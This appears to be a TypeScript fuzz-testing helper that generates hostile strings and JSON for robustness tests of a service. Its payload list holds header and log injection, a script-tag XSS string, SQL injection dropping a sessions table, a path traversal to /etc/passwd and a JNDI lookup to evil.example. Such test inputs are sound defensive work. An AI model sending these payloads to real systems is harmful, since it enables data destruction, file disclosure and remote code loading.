import type { Draw } from './draw.ts'

/** In every text that is made up: none of it may come back in a refusal, nor reach a log. */
export const mark = 'hOsTiLe'

const texts: readonly string[] = [
  '',
  ' ',
  mark,
  `${mark}\r\nSet-Cookie: __Host-session=${mark}`,
  `${mark}\n{"level":30,"msg":"${mark}"}`,
  `\u001b[2J\u001b[31m${mark}\u0007`,
  `"><script>alert('${mark}')</script>`,
  `' OR 1=1; DROP TABLE sessions; -- ${mark}`,
  `${mark}\u0000`,
  `../../../../etc/passwd#${mark}`,
  `\${jndi:ldap://evil.example/${mark}}`,
  '__proto__',
  'constructor',
  'prototype',
  'toString',
  `\u202e${mark}\u2028\ufeff`,
  `\ud800${mark}`,
  `👩‍👩‍👧${mark}`,
  'null',
  'undefined',
  'true',
  '-1',
  '0',
  '1e309',
  '9007199254740993',
  '%00',
  '%E9%zz',
  '*',
  '"1-AAAAAAAA.AAAAAAAA"',
  'https://evil.example/',
  '//evil.example',
  'javascript:alert(1)',
]

/** A text that nobody well-meaning sends. */
export function hostileText(draw: Draw): string {
  if (draw.once(16)) return mark.repeat(draw.pick([40, 600]))
  if (draw.once(12)) return 'A'.repeat(draw.pick([42, 43, 44, 256, 257, 4_097]))
  return draw.pick(texts)
}

/** A JSON value that nobody well-meaning sends. */
export function hostileJson(draw: Draw): unknown {
  const kind = draw.below(9)
  if (kind === 0) return draw.pick([null, true, false, 0, -1, 1.5, 1e308, 2 ** 53, -0])
  if (kind === 1) return []
  if (kind === 2) return {}
  if (kind === 3) return nested(draw.pick([3, 7, 9, 200, 1_000]), draw.once(2))
  if (kind === 4) return Object.fromEntries(Array.from({ length: draw.pick([5, 255, 257, 300]) }, (_, at) => [`k${at}`, at]))
  if (kind === 5) return Array.from({ length: draw.pick([2, 2, 129]) }, () => hostileText(draw))
  return hostileText(draw)
}

function nested(depth: number, asArray: boolean): unknown {
  let value: unknown = mark
  for (let at = 0; at < depth; at += 1) value = asArray ? [value] : { a: value }
  return value
}
